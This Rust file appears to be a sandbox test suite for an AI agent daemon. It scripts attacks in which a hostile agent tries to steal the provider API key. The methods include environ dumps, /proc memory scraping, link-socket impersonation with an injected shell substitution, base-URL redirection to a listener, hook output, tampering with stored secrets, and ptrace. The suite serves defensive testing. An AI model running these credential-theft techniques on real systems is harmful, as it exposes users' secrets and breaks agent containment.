//! The provider's key: from environments, memory, the link, and by redirecting a request.

use super::attack::{Attack, Needs, Theme};
use super::testbed::Testbed;
use crate::lab::testbed::Result;
use std::fs;
use std::path::Path;

pub const THEME: Theme = Theme {
    name: "keys",
    is_about_sandbox: true,
    attacks: ATTACKS,
};

/// Speaks the link protocol as the process of a sleeping agent.
const LINK: &str = r#"
import json, os, socket, sys
s = socket.socket(socket.AF_UNIX)
s.settimeout(2)
s.connect(os.environ['STATE'] + '/run/link.sock')
hello = {'say': 'hello', 'v': int(os.environ['LINK_V']), 'agent': os.environ['SLEEPER'],
         'runtime': '07070707-0707-0707-0707-070707070707', 'secret': os.environ['SECRET'], 'seen': None, 'env': {}}
s.sendall(json.dumps(hello).encode() + b'\0')
said = b''
while not said.endswith(b'\0'):
    got = s.recv(65536)
    if not got: break
    said += got
sys.stdout.buffer.write(said)
"#;

/// Searches the memory of a process for the key.
pub const MEMORY: &str = r#"
import os, re, sys
pid = sys.argv[1]
with open(f'/proc/{pid}/maps') as maps, open(f'/proc/{pid}/mem', 'rb', 0) as mem:
    for line in maps:
        at, mode = line.split()[:2]
        begin, end = (int(it, 16) for it in at.split('-'))
        if not mode.startswith('rw') or end - begin > 1 << 27: continue
        try:
            mem.seek(begin)
            found = re.search(rb'sk-canary-key-[0-9a-f]+', mem.read(end - begin))
        except (OSError, ValueError, OverflowError): continue
        if found:
            print(found.group().decode()); break
"#;

/// A link of an agent that has no process, with this shell expression as the secret.
fn by_link(testbed: &Testbed, secret: &str) -> Result<Option<String>> {
    let id = sleeper(testbed)?;
    let script =
        format!("export SLEEPER={id}; export SECRET={secret}; python3 - <<'PY' | loot{LINK}PY\n");
    let saw = testbed.script("hostile", &script)?;
    Ok(testbed.leaked(&saw, &testbed.words.key))
}

/// The id of an agent that has the key and no process.
pub fn sleeper(testbed: &Testbed) -> Result<String> {
    let name = testbed.agent("sleeper")?;
    Ok(testbed.show(&name)?.id.to_string())
}

fn in_memory(testbed: &Testbed, pid: &str) -> Result<Option<String>> {
    let saw = testbed.script(
        "hostile",
        &format!("python3 - \"{pid}\" <<'PY' | loot{MEMORY}PY\n"),
    )?;
    Ok(testbed.leaked(&saw, &testbed.words.key))
}

/// Whether a file below it contains the key.
pub fn holds_key(testbed: &Testbed, dir: &Path) -> Option<String> {
    let key = testbed.key();
    for entry in fs::read_dir(dir).into_iter().flatten().flatten() {
        let path = entry.path();
        let kind = entry.file_type().ok()?;
        if kind.is_dir() {
            if let Some(found) = holds_key(testbed, &path) {
                return Some(found);
            }
        } else if kind.is_file() {
            let bytes = fs::read(&path).unwrap_or_default();
            if bytes.windows(key.len()).any(|part| part == key.as_bytes()) {
                return Some(format!("the key is in {}", path.display()));
            }
        }
    }
    None
}

/// A turn of an agent whose provider is at this address.
fn provider_at(testbed: &Testbed, name: &str, port: u16) -> Result<()> {
    let url = format!("http://127.0.0.1:{port}");
    testbed.create(name, testbed.spec(), testbed.env_with(&url))?;
    let send = agentd_client::api::Send {
        text: "do: say hello".to_owned(),
        env: testbed.env_with(&url),
        ..Default::default()
    };
    let sent = testbed.ask("send", testbed.client().send(name, &send))?;
    let wait = std::time::Duration::from_secs(3);
    let _failed = testbed.ask("answer", testbed.client().answer(name, sent.prompt, wait));
    Ok(())
}

const ATTACKS: &[Attack] = &[
    Attack::new("key-env", "its own environment, and that of its parents", |testbed| {
        let saw = testbed.script(
            "hostile",
            "env | loot; cat /proc/self/environ /proc/$PPID/environ | tr '\\0' '\\n' | loot",
        )?;
        Ok(testbed.leaked(&saw, &testbed.words.key))
    }),
    Attack::new("key-cli-environ", "/proc/PID/environ of the user's commands", |testbed| {
        testbed.long_command()?;
        let saw = testbed.script(
            "hostile",
            "cat /proc/[0-9]*/environ | tr '\\0' '\\n' | loot",
        )?;
        Ok(testbed.leaked(&saw, &testbed.words.key))
    }),
    Attack::new("key-daemon-memory", "/proc/PID/mem of the daemon", |testbed| {
        testbed.agent("hostile")?;
        in_memory(testbed, "$DAEMON")
    })
    .needs(Needs::Tracing),
    Attack::new("key-runtime-memory", "/proc/PID/mem of its own runtime", |testbed| {
        testbed.turn("hostile", "do: say ready")?;
        in_memory(testbed, "$RUNTIME")
    })
    .needs(Needs::Tracing),
    Attack::new("key-link", "the link, as the process of another agent", |testbed| {
        by_link(testbed, "0000")
    }),
    Attack::new("key-link-digest", "the link, with the digest that is on disk as the secret", |testbed| {
        by_link(testbed, "$(cat $STATE/run/agents/$SLEEPER.proof 2>/dev/null)")
    })
    .alone(),
    Attack::new("key-base-url", "a base URL of its own, in the file in which hooks leave variables", |testbed| {
        testbed.turn("hostile", "do: say ready")?;
        testbed.script(
            "hostile",
            "for dir in /tmp \"$STATE/agents/$ID/tmp\"; do echo \"ANTHROPIC_BASE_URL=http://127.0.0.1:$TCP\" > \
             \"$dir/agentd-env-$AGENTD_CONVERSATION\"; done",
        )?;
        let _stopped = testbed.cli(&["stop", "hostile"])?;
        let _started = testbed.cli(&["start", "hostile"])?;
        let send = testbed.send("hostile", "do: say hello")?;
        let wait = std::time::Duration::from_secs(2);
        let _failed = testbed.ask("answer", testbed.client().answer("hostile", send, wait));
        let said = testbed.listeners.take("tcp").unwrap_or_default();
        // Without a sandbox, `/tmp` is the machine's.
        let _removed = testbed.script("hostile", "rm -f \"/tmp/agentd-env-$AGENTD_CONVERSATION\"");
        Ok(said.contains(&testbed.key()).then(|| "the listener was sent the key".to_owned()))
    })
    .alone(),
    Attack::new("key-redirect", "a provider that redirects the request with the key", |testbed| {
        provider_at(testbed, "redirected", testbed.listeners.redirecting)?;
        let said = testbed.listeners.take("tcp").unwrap_or_default();
        Ok(said.contains(&testbed.key()).then(|| "the redirect's target was sent the key".to_owned()))
    }),
    Attack::new("key-error-echo", "a provider whose error repeats the key", |testbed| {
        provider_at(testbed, "echoed", testbed.listeners.echoing)?;
        let shown = testbed.cli(&["logs", "echoed", "--json"])?;
        let shown = String::from_utf8_lossy(&shown.stdout).into_owned();
        let agent = testbed.show("echoed")?;
        let is_shown = shown.contains(&testbed.key())
            || agent.error.is_some_and(|error| error.contains(&testbed.key()));
        let shown = is_shown.then(|| "the key is in the agent's history".to_owned());
        Ok(shown.or_else(|| holds_key(testbed, &testbed.state())))
    })
    .alone(),
    Attack::new("key-printed", "a command that prints a file with the key in it", |testbed| {
        fs::write(testbed.work().join(".env"), testbed.key())?;
        let saw = testbed.shell("hostile", "cat .env")?;
        Ok(testbed.leaked(&saw, &testbed.key()))
    }),
    Attack::new("key-read-tool", "read_file of a file with the key in it", |testbed| {
        fs::write(testbed.work().join(".env"), testbed.key())?;
        let saw = testbed.tool("hostile", "read_file", &serde_json::json!({"file_path": ".env"}))?;
        Ok(testbed.leaked(&saw, &testbed.key()))
    }),
    Attack::new("key-search-tool", "search_files that finds the key", |testbed| {
        fs::write(testbed.work().join("settings"), testbed.key())?;
        let arguments = serde_json::json!({"pattern": "sk-"});
        let saw = testbed.tool("hostile", "search_files", &arguments)?;
        Ok(testbed.leaked(&saw, &testbed.key()))
    }),
    Attack::new("key-on-disk", "kept output with the key in it, in the state directory", |testbed| {
        fs::write(testbed.work().join(".env"), testbed.key())?;
        testbed.shell("hostile", "cat .env; env; seq 20000")?;
        Ok(holds_key(testbed, &testbed.state()))
    })
    .alone(),
    Attack::new("key-hook-output", "a hook of the user's that prints a file with the key in it", |testbed| {
        fs::write(testbed.work().join(".env"), testbed.key())?;
        let hooks = serde_json::json!({"hooks": {"UserPromptSubmit": [{"hooks": [{"type": "command",
            "command": "cat > /dev/null; cat .env"}]}]}});
        fs::write(testbed.state().join("hooks.json"), hooks.to_string())?;
        let from = testbed.model.count();
        testbed.turn("hostile", "do: say hello")?;
        // Its output comes before the prompt.
        let mut sent = testbed.model.requests_since(from).into_iter();
        let is_sent = sent.any(|request| request.body.to_string().contains(&testbed.key()));
        Ok(is_sent.then(|| "the key was sent to the model".to_owned()))
    }),
    Attack::new("key-stored", "the keys that the user stored, from their file and by the command", |testbed| {
        let saw = testbed.script(
            "hostile",
            "{ cat \"$STATE/secrets.json\"; \"$AGENTD\" secret list --json; outer secret list --json; } 2>&1 | tee list | loot; \
             grep -o SIEGE_TOKEN list | head -n 1 | sed 's/.*/LISTED/'",
        )?;
        let listed = saw.text.contains("LISTED").then(|| "the names of stored keys".to_owned());
        Ok(testbed.leaked(&saw, &testbed.words.stored).or(listed))
    }),
    Attack::new("key-replaced", "another value for a key that the user stored", |testbed| {
        let file = testbed.state().join("secrets.json");
        let before = fs::read_to_string(&file)?;
        testbed.script(
            "hostile",
            "printf mine | \"$AGENTD\" secret set SIEGE_TOKEN; printf mine | outer secret set SIEGE_TOKEN; \
             \"$AGENTD\" secret rm SIEGE_TOKEN; outer secret rm SIEGE_TOKEN; echo {} > \"$STATE/secrets.json\"",
        )?;
        Ok(testbed.changed(&file, &before))
    })
    .alone(),
    Attack::new("key-ptrace", "a debugger on the runtime", |testbed| {
        testbed.turn("hostile", "do: say ready")?;
        let saw = testbed.script(
            "hostile",
            "python3 - <<'PY'\nimport ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n\
             pid = int(os.environ['RUNTIME'])\n\
             print('SEIZED' if pid and libc.ptrace(0x4206, pid, 0, 0) == 0 else 'no')\nPY\n",
        )?;
        Ok(saw.text.contains("SEIZED").then(|| "a tool traced the runtime".to_owned()))
    })
    .needs(Needs::Tracing),
];
